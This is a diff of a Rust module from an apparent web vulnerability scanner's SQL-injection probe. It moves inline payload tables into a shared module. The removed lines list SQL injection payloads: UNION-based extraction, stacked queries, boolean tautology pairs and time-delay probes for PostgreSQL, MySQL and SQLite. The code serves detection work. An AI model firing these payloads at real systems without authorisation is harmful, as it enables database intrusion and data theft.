@@ -1,12 +1,11 @@
 //! Texts that become part of an SQL statement.
 
 use crate::attack::{
-    Attack, Delay, Form, Offer, Pair, complains_of_sql, deliver, deliver_delays, deliver_pairs,
-    gets_through, offer,
+    Attack, Offer, complains_of_sql, deliver, deliver_delays, deliver_pairs, gets_through, offer,
+    sql,
 };
 use crate::check::{Check, Class, Facet, Finding, Revisions, Severity};
-use crate::evidence::Profile::{Deep, Quick, Standard};
-use crate::evidence::{Evidence, Exchange};
+use crate::evidence::{Evidence, Exchange, Profile};
 use crate::probe::{Call, Lane, Probe};
 use crate::probes::{aftermath, benign, valid_call};
 use crate::proof::{Proof, payload, twin};
@@ -31,70 +30,13 @@ const PROBE: Probe = Probe { id: "sql-injection", hostile: true, lane: Lane::Sha
 const DELAYS: Probe =
     Probe { id: "sql-injection-delays", hostile: true, lane: Lane::Alone, plan: delays };
 
-const FORMS: &[Form] = &[
-    // Proves nothing by itself: what it breaks tells where to look closer.
-    Form::computed("quote", Quick, "«L»'\""),
-    Form::computed("concatenation", Standard, "«L»'||(«M»)||'«R»"),
-    Form::computed("union", Deep, "«W»' UNION SELECT '«L»'||(«M»)||'«R»' -- "),
-    Form::computed("union of two", Deep, "«W»' UNION SELECT '«L»'||(«M»)||'«R»',2 -- "),
-    Form::computed("union of three", Deep, "«W»' UNION SELECT 1,'«L»'||(«M»)||'«R»',3 -- "),
-    Form::computed("union, MySQL", Deep, "«W»' UNION SELECT CONCAT('«L»',«M»,'«R»') -- "),
-    Form::computed("stacked", Deep, "«W»'; SELECT '«L»'||(«M»)||'«R»' -- "),
-];
-
-/// A comparison and its reverse look alike; a tautology may be known to a filter.
-const PAIRS: &[Pair] = &[
-    Pair::new("comparison", Quick, "«W»' OR '«A»'<'«B»", "«W»' OR '«B»'<'«A»"),
-    Pair::new("tautology", Quick, "«W»' OR '1'='1", "«W»' OR '1'='2"),
-    Pair::new("comment", Standard, "«W»' OR 1=1 -- ", "«W»' OR 1=2 -- "),
-    Pair::narrow("and", Standard, "«V»' AND '«A»'<'«B»", "«V»' AND '«B»'<'«A»"),
-    Pair::new("number", Standard, "-«n» OR «a»<«b»", "-«n» OR «b»<«a»"),
-    Pair::narrow("number, and", Deep, "«n» AND «a»<«b»", "«n» AND «b»<«a»"),
-    Pair::new(
-        "comparison, comment",
-        Standard,
-        "«W»' OR '«A»'<'«B»' -- ",
-        "«W»' OR '«B»'<'«A»' -- ",
-    ),
-    Pair::new("parenthesis", Deep, "«W»') OR ('«A»'<'«B»", "«W»') OR ('«B»'<'«A»"),
-    Pair::new("parenthesis, comment", Deep, "«W»') OR '«A»'<'«B»' -- ", "«W»') OR '«B»'<'«A»' -- "),
-    Pair::new("double quotes", Deep, "«W»\" OR \"«A»\"<\"«B»", "«W»\" OR \"«B»\"<\"«A»"),
-];
-
-macro_rules! counting {
-    ($n:literal) => {
-        concat!(
-            "«W»' OR (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT ",
-            $n,
-            ") SELECT count(x) FROM c)<0 OR '«A»'='«B»"
-        )
-    };
-}
-
-const SLOW: &[Delay] = &[
-    Delay {
-        name: "PostgreSQL",
-        ms: 600,
-        slow: "«W»'||pg_sleep(0.6)||'",
-        fast: "«W»'||pg_sleep(0.0)||'",
-    },
-    Delay {
-        name: "MySQL",
-        ms: 600,
-        slow: "«W»' OR (SELECT SLEEP(0.6))='«A»",
-        fast: "«W»' OR (SELECT SLEEP(0.0))='«A»",
-    },
-    // Counting is all that SQLite can be kept busy with.
-    Delay { name: "SQLite", ms: 100, slow: counting!("1000000"), fast: counting!("0000001") },
-];
-
 fn delays(evidence: &Evidence, seed: Seed) -> Vec<Call> {
-    deliver_delays(evidence, seed, DELAYS.id, SLOW)
+    deliver_delays(evidence, seed, DELAYS.id, Profile::Standard, sql::SLOW)
 }
 
 fn plan(evidence: &Evidence, seed: Seed) -> Vec<Call> {
-    let mut calls = deliver(evidence, seed, PROBE.id, FORMS);
-    calls.extend(deliver_pairs(evidence, seed, PROBE.id, PAIRS));
+    let mut calls = deliver(evidence, seed, PROBE.id, sql::FORMS);
+    calls.extend(deliver_pairs(evidence, seed, PROBE.id, sql::PAIRS));
     calls
 }
 
